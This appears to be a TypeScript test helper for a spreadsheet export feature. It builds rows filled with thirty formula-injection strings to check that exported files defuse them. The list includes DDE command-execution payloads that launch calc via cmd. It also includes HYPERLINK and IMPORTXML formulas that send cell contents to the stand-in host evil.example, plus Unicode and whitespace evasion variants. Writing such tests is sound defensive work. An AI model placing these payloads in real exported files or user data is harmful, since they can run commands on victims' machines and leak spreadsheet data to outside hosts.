/** Rows that try to be formulas, the files made of them, and how files are read back. */
import { exportSets, startExport, type ExportFormat, type ExportSetId } from "@stallkeeper/domain";
import { openRows } from "../../imports/file/open-rows.ts";
import { inflate } from "../../imports/file/unzipped.ts";
import { cellsOf, fileColumns, type Cell, type FileColumn } from "./cells.ts";
import { fileWriters } from "./file-writers.ts";

/** Thirty texts that a spreadsheet could work out. */
export const hostile = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "+cmd|' /C calc'!A0",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@import",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u{feff}=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "=",
  "+",
  "-",
  "@",
  "\ttab",
  "\rline",
  '="a","b"',
  "=A1;B1",
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=DDE("cmd";"/C calc";"!A0")',
  "-@evil",
];

/** Every column of a data set, personal ones included. */
export const everyColumn = (set: ExportSetId): FileColumn[] =>
  fileColumns(
    { ...startExport(set), columns: exportSets[set].columns.map(({ id }) => ({ id, name: id })) },
    true,
  );

/** A row for each hostile text, which stands in every text column; beside it negative money, numbers and dates. */
export function hostileRows(columns: readonly FileColumn[]): Cell[][] {
  const valueOf = { number: -7, money: -1_250, date: "2026-03-29 16:30", yesNo: true } as const;
  return hostile.map((text) =>
    cellsOf(
      columns,
      Object.fromEntries(columns.map(({ id, type }) => [id, type === "text" ? text : valueOf[type]])),
    ),
  );
}

/** The whole file of these cells, written in batches. */
export async function writeFile(
  columns: readonly FileColumn[],
  format: ExportFormat,
  all: readonly Cell[][],
  batch = 7,
): Promise<Buffer> {
  const writer = fileWriters[format.kind];
  const opened = await writer.open(columns, format);
  const pieces = [opened.bytes];
  let { state } = opened;
  for (let at = 0; at < all.length; at += batch) {
    // What goes on is what was kept: plain JSON.
    const kept = JSON.parse(JSON.stringify(state)) as typeof state;
    const written = await writer.rows(kept, columns, format, all.slice(at, at + batch));
    pieces.push(written.bytes);
    state = written.state;
  }
  pieces.push(await writer.close(state, columns, format));
  return Buffer.concat(pieces);
}

/** The rows of a file as our own reader shows them. */
export async function readFile(file: Buffer): Promise<string[][]> {
  const source = openRows(file);
  return (await source.next(1_000)).map(({ cells }) => cells);
}

/** The text of a part of a workbook. */
export function textOfEntry(file: Buffer, wanted: string): string {
  const pieces: Uint8Array[] = [];
  const take = (_path: string, piece: Uint8Array): void => void pieces.push(piece);
  for (const _pause of inflate(file, (path) => path === wanted, take, { mostBytes: 10_000_000 }));
  return Buffer.concat(pieces).toString();
}

/** As our own reader shows cells: without marks of an encoding. */
export const withoutMark = (text: string): string => text.replaceAll("\u{feff}", "");
